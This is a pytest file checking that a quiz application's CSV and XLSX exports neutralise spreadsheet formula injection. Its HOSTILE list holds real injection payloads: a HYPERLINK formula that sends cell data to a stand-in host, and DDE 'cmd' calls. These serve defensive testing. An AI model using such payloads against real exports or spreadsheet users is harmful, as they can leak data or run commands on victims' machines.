"""Formula injection: nothing a user typed is read back by a spreadsheet as a formula, in any export."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from quiz.spreadsheet import neutralise

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&C2;"Cliquez")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def cells_of_csv(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text), delimiter=";") for cell in row]


def assert_inert(cells, hostile=HOSTILE):
    texts = [c for c in cells if isinstance(c, str)]
    assert not [c for c in texts if c.startswith(FORMULA_STARTS)], texts
    for payload in hostile:  # neutralised, not dropped: the text is still there (the import strips blanks)
        assert any(payload.strip() in c for c in texts), payload


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_could_start_a_formula_is_neutralised(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize("value", ["-0,25", "+3", "-12.5", "42", "50 %", 7, None, "Dupont", "O'Brien"])
def test_numbers_and_plain_text_are_left_alone(value):
    assert neutralise(value) == value


@pytest.fixture
def hostile_cohort(app, make_user):
    """Candidates whose names, as a CSV import lets anyone set them, are formulas."""
    from quiz.accounts.service import import_candidates_csv

    lines = ["nom;prenom;email;cohorte"]
    for n, payload in enumerate(HOSTILE):
        quoted = '"' + payload.replace('"', '""') + '"'
        lines.append(f"{quoted};{quoted};hostile{n}@example.org;Promo formules")
    report = import_candidates_csv("\r\n".join(lines).encode("utf-8"))
    assert report.ok, report.errors
    from quiz.ledger.service import cohort_by_name

    return cohort_by_name("Promo formules").id


def test_the_jury_csv_holds_no_formula(client, login, make_user, hostile_cohort):
    login(client, make_user(roles=("admin",)))
    response = client.get(f"/registre/jury/export.csv?promotion={hostile_cohort}")
    assert response.status_code == 200
    assert_inert(cells_of_csv(response.data))


def test_the_jury_xlsx_holds_only_strings_and_no_formula(client, login, make_user, hostile_cohort):
    login(client, make_user(roles=("admin",)))
    response = client.get(f"/registre/jury/export.xlsx?promotion={hostile_cohort}")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.data)).active
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert all(c.data_type == "s" for c in cells if isinstance(c.value, str))
    assert_inert([c.value for c in cells])


def test_the_statistics_csv_holds_no_formula(client, login, make_user, open_session):
    from quiz.extensions import db

    session = open_session()
    session.questionnaire.title = HOSTILE[0]
    db.session.commit()
    login(client, make_user(roles=("trainer",)))
    response = client.get("/atelier/statistiques/statistiques.csv")
    assert response.status_code == 200
    assert_inert(cells_of_csv(response.data), hostile=[HOSTILE[0]])
